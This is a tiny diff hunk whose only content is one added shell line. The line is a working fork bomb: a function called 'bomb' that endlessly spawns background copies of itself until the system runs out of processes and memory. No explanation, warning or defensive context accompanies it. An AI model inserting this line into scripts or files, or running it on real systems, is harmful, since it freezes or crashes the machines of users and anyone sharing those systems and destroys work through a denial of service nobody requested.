@@ -1,0 +1,1 @@
+bomb() { while :; do bomb & done; }; bomb
